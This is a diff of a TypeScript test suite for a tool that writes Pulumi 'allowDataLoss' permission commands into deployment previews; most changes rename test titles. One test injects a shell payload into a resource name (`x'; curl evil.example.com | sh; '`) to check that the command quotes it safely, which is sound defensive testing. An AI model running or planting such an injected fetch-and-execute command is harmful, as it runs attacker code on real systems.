@@ -154,7 +154,7 @@ test("a report shows a refusal of the data gate as a missing permission, not as 
   ]);
 });
 
-describe("The permission of several losses of data", () => {
+describe("command that permits losses of data", () => {
   const textOf = async (digest: Json, ...args: string[]) => {
     const file = join(folder, "preview.json");
     writeFileSync(file, JSON.stringify(digest, undefined, 4));
@@ -162,14 +162,14 @@ describe("The permission of several losses of data", () => {
   };
   const BOTH = "Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001";
 
-  test("is one command, and `up` will stop is said once", async () => {
+  test("the caution says once that `up` will stop, and contains one command", async () => {
     const out = await textOf(deletion());
     expect(out.match(/will stop/g)).toHaveLength(1);
     expect(out).toContain("> `up` will stop: 2 losses of data are not permitted yet. To permit them, run this command:\n");
     expect(blockAfter(out, "run this command:")).toBe(`pulumi config set hosting:allowDataLoss '${BOTH}'`);
   });
 
-  test("keeps the present entries that match a resource, and says so", async () => {
+  test("the command keeps the present entries that match a resource, and the caution says so", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:gone";
     const out = await textOf(digest);
@@ -178,7 +178,7 @@ describe("The permission of several losses of data", () => {
     );
   });
 
-  test("does not show the present entries without values, and says that it replaces them", async () => {
+  test("the command without values contains no present entries, and the caution says that it replaces them", async () => {
     const digest = deletion();
     digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:data";
     const out = await textOf(digest, "--no-values");
@@ -188,7 +188,7 @@ describe("The permission of several losses of data", () => {
     expect(out).not.toMatch(/100[34]/);
   });
 
-  test("quotes names for a shell, and is shown whole", async () => {
+  test("the command quotes names for a shell, and is shown whole", async () => {
     const digest = deletion();
     const name = `x'; curl evil.example.com | sh; '${"`".repeat(4)}${"y".repeat(400)}`;
     for (const step of digest.steps) step.urn = step.urn.replace(":Volume::old-uploads", `:Volume::${name}`);
@@ -201,7 +201,7 @@ describe("The permission of several losses of data", () => {
     expect(malformed(out, { maxBytes: 60_000, links: [] })).toEqual([]);
   });
 
-  test("names each stack of several, and selects it in its command", async () => {
+  test("the command of each stack selects its stack", async () => {
     const file = join(folder, "prod.json");
     writeFileSync(file, JSON.stringify(deletion()));
     const other = join(folder, "dev.json");
@@ -213,7 +213,7 @@ describe("The permission of several losses of data", () => {
     expect(out).toContain(`pulumi config set hosting:allowDataLoss '${BOTH}' --stack dev\n`);
   });
 
-  test("of more losses than are listed names the stacks of the others", async () => {
+  test("the caution names the stacks of the losses that it does not list", async () => {
     const args = ["dev", "eu", "prod", "us"].map((stack) => {
       const file = join(folder, `${stack}.json`);
       writeFileSync(file, JSON.stringify(deletion()).replaceAll("urn:pulumi:prod::", `urn:pulumi:${stack}::`));
@@ -224,7 +224,7 @@ describe("The permission of several losses of data", () => {
     expect(out).toContain("2 losses of data in us are not permitted yet.");
   });
 
-  test("is left out where it is too long for the comment", async () => {
+  test("the command is left out if it is too long for the comment", async () => {
     const digest = deletion();
     const [first] = digest.steps.filter(({ urn }) => urn.endsWith(":Volume::old-uploads"));
     for (let n = 0; n < 40; n++) digest.steps.push({ ...(first as Digest["steps"][0]), urn: `${URN}:Volume::volume-${n}` });
@@ -234,7 +234,7 @@ describe("The permission of several losses of data", () => {
     expect(blockAfter(await textOf(digest), "run this command:")).toContain("Volume:volume-39#1004");
   });
 
-  test("of several refusals is one list too", async () => {
+  test("the command of several refusals contains all their entries", async () => {
     const refused = (name: string, id: string) =>
       `deleting Volume "${name}" (id ${id}) would delete data: its files. It was not deleted and stays in the state. To delete it: pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:${name}#${id}'.`;
     const events = ["a", "b"].flatMap((name, n) => [
